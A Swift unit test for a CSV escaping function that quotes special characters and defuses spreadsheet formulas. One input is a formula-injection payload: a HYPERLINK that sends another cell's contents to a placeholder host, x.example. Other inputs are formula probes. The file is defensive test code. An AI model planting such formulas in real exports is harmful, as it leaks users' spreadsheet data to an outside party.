import Testing

@testable import Messages

@Suite struct CSVFieldTests {
    @Test func aFieldASpreadsheetWouldRunIsDefusedAndSpecialCharactersAreQuoted() {
        #expect(CSVField.escaped("Lê Thị Hoa") == "Lê Thị Hoa")
        #expect(CSVField.escaped("a, \"b\"") == "\"a, \"\"b\"\"\"")
        #expect(CSVField.escaped("two\nlines") == "\"two\nlines\"")
        #expect(CSVField.escaped("=HYPERLINK(\"https://x.example/?\"&E3,\"Li Wei\")").hasPrefix("\"'=HYPERLINK("))
        for formula in ["+1+2", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd"] {
            #expect(CSVField.escaped(formula).first(where: { $0 != "\"" }) == "'", "\(formula)")
        }
        #expect(CSVField.escaped("") == "")
    }
}
